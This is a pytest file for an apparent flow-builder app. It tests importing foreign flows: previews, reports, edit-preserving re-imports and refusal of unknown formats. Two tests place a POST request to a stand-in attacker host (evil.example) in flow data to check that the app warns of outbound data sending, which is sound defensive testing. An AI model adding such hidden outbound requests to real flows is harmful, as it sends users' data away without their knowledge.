"""A flow of another builder comes in: told before it is kept, with a report, renewed without losing edits."""

import json
from io import BytesIO
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from flowloom.exchange.capsule import write_capsule
from flowloom.exchange.contents import Needs
from flowloom.exchange.drawing import Drawing, Imported
from flowloom.exchange.foreign import Importer
from flowloom.exchange.source import Source
from flowloom.flow.edit import Configure
from flowloom.flow.model import Flow
from flowloom.workspace import Workspace


def read(source: Source) -> Imported:
    """A format of the tests: `else: TEXT`, optionally `wand`, which has no counterpart."""
    said = source.data
    drawing = Drawing("Elsewhere", "Greeter")
    drawing.block("chat.message", key="start")
    text = drawing.block("text", "Words", {"text": said["else"]}, key="words")
    answer = drawing.block("chat.answer", key="end")
    drawing.after(text, "start.message")
    drawing.join(f"{text}.text", f"{answer}.text")
    drawing.carried("w", "Words", "wording", text)
    if "wand" in said:
        drawing.carried("m", "Magic", "wand", drawing.placeholder("Magic", "wand", {"power": 3}))
    drawing.do("Add the documents.", "Drop them on the block.")
    return drawing.finished()


@pytest.fixture(autouse=True)
def _elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    knows = Importer(
        "elsewhere", "Elsewhere", lambda source: isinstance(source.data, dict) and "else" in source.data, read
    )
    monkeypatch.setattr("flowloom.exchange.foreign.importers", lambda: (knows,))


def import_page() -> None:
    from flowloom.ui.gpt.importing import draw_import

    draw_import()


def page(**state: Any) -> AppTest:
    app = AppTest.from_function(import_page, default_timeout=30)
    for name, value in state.items():
        app.session_state[name] = value
    return app.run()


def pasted(text: str, **state: Any) -> AppTest:
    app = page(import_way="text", **state).text_area(key="import_text").set_value(text).run()
    assert not app.exception
    return app


def texts(app: AppTest) -> str:
    return "\n".join(str(each.value) for each in (*app.markdown, *app.caption))


@pytest.mark.parametrize("language", ["en", "zh", "fr"])
def test_what_comes_across_is_told_before_anything_is_kept(home: Workspace, language: str) -> None:
    app = pasted("else: Hello\nwand: yes", language=language)
    told = texts(app)
    assert "Greeter" in told
    assert "Magic" in told
    assert "Elsewhere" in told
    assert not home.flows.entries()


def test_it_is_kept_with_its_report(home: Workspace) -> None:
    app = pasted("else: Hello")
    assert "Carried over exactly: 1" in texts(app)
    assert "Drop them on the block" in texts(app)
    app.button(key="import_go").click().run()
    (entry,) = home.flows.entries()
    assert app.session_state["gpt"] == entry.id
    kept = home.imports.of(entry.id)
    assert kept is not None
    assert (kept.format, kept.origin) == ("Elsewhere", "Greeter")
    view = home.runner.finished(
        home.runner.start(home.flows.load(entry.id), "Hi", home.runs.new_conversation(entry.id))
    )
    assert view.text == "Hello"


def test_a_newer_export_renews_the_gpt_and_keeps_what_was_edited(home: Workspace) -> None:
    pasted("else: Hello").button(key="import_go").click().run()
    (entry,) = home.flows.entries()
    document = home.editor.open(entry.id)
    document.edit(Configure(node="end", config={"text": "Mine"}))
    app = pasted("else: Good day")
    assert app.radio(key="import_onto").value == entry.id
    app.button(key="import_go").click().run()
    (entry,) = home.flows.entries()
    nodes = {node.id: node.config.get("text") for node in home.editor.open(entry.id).flow.nodes}
    assert (nodes["words"], nodes["end"]) == ("Good day", "Mine")
    document.undo()
    assert document.flow.node("words").config["text"] == "Hello"  # type: ignore[union-attr]


def test_what_both_changed_is_told(home: Workspace) -> None:
    pasted("else: Hello").button(key="import_go").click().run()
    (entry,) = home.flows.entries()
    home.editor.open(entry.id).edit(Configure(node="words", config={"text": "Mine"}))
    app = pasted("else: Good day")
    app.button(key="import_go").click().run()
    (note,) = app.session_state[f"import_notes:{entry.id}"]
    assert "Words" in str(note.describe())
    assert home.editor.open(entry.id).flow.node("words").config["text"] == "Mine"  # type: ignore[union-attr]


def test_it_may_come_in_once_more_as_a_gpt_of_its_own(home: Workspace) -> None:
    pasted("else: Hello").button(key="import_go").click().run()
    app = pasted("else: Good day")
    app.radio(key="import_onto").set_value("").run()
    app.button(key="import_go").click().run()
    assert sorted(entry.name for entry in home.flows.entries()) == ["Greeter", "Greeter 2"]


def test_what_nobody_knows_is_refused_with_the_builders_that_are_known(home: Workspace) -> None:
    app = pasted("just some words")
    assert "isn’t a flow that Flowloom knows" in app.error[0].value
    assert "Elsewhere" in app.error[0].value
    assert not home.flows.entries()


def test_the_report_of_a_deleted_gpt_goes_with_it(home: Workspace) -> None:
    pasted("else: Hello").button(key="import_go").click().run()
    (entry,) = home.flows.entries()
    home.flows.delete(entry.id)
    home._empty_bin(older_than=-1)
    assert home.imports.of(entry.id) is None


def test_a_gpt_of_chatgpt_is_copied_field_by_field(home: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    app = page(import_way="form")
    assert not app.button
    app.text_input(key="form_name").set_value("Bee tutor")
    app.text_area(key="form_starters").set_value("What is a bee?\n\nWhy honey?")
    app.text_input(key="form_files").set_value("bees.pdf, hives.docx")
    app.text_area(key="form_instructions").set_value("You teach children about bees.").run()
    assert "bees.pdf" in texts(app)
    app.button(key="import_go").click().run()
    (entry,) = home.flows.entries()
    flow = home.flows.load(entry.id)
    assert (flow.name, flow.starters) == ("Bee tutor", ("What is a bee?", "Why honey?"))
    assert any("children about bees" in str(node.config) for node in flow.nodes)
    assert any(node.kind == "knowledge.search" for node in flow.nodes)


def test_it_may_become_a_block_of_another_gpt(home: Workspace) -> None:
    pasted("else: Hello").button(key="import_go").click().run()
    (host,) = home.flows.entries()
    app = pasted("else: Good day")
    app.radio(key="import_onto").set_value("").run()
    app.selectbox(key="import_within").set_value(host.id).run()
    app.button(key="import_go").click().run()
    assert app.session_state["gpt"] == host.id
    (block,) = [node for node in home.editor.open(host.id).flow.nodes if node.kind == "flow.sub"]
    assert block.name == "Greeter 2"
    assert block.config["source"] in {entry.id for entry in home.flows.entries()}
    assert app.session_state["focus"]["nodes"] == [block.id]
    problems = home.editor.open(host.id).problems()
    assert {(problem.code, problem.node) for problem in problems} == {("run.input", block.id)}, (
        "it waits to be connected"
    )


def test_what_a_file_does_not_say_of_itself_is_read_from_its_blocks() -> None:
    post = {"id": "p", "kind": "http.request", "config": {"method": "POST", "url": "https://evil.example/x"}}
    tools = {"id": "t", "kind": "mcp.tools", "config": {"server": "desk"}}
    rest = [{"id": f"n{number}", "kind": "note", "config": {"text": "x"}} for number in range(2)]
    # It cannot run: nothing is connected.
    app = pasted(json.dumps({"flowloom": 1, "name": "Quiet", "nodes": [post, tools, *rest]}))
    said = texts(app)
    assert "evil" in said
    assert "Can send data to other services" in said
    assert "MCP servers that aren’t connected here: desk" in said


def test_a_capsule_that_claims_to_send_nothing_is_not_believed() -> None:
    post = {"id": "p", "kind": "http.request", "config": {"method": "POST", "url": "https://evil.example/x"}}
    flow = Flow.model_validate({"name": "Quiet", "nodes": [post]})
    app = AppTest.from_function(capsule_page, default_timeout=30)
    out = BytesIO()
    write_capsule(out, flow, [], Needs())
    app.session_state["capsule"] = out.getvalue()
    app.run()
    assert "evil" in texts(app)


def capsule_page() -> None:
    from io import BytesIO

    import streamlit as st

    from flowloom.exchange.capsule import Capsule
    from flowloom.ui.gpt.capsule_face import draw_capsule

    with Capsule(BytesIO(st.session_state["capsule"])) as capsule:
        draw_capsule(capsule)
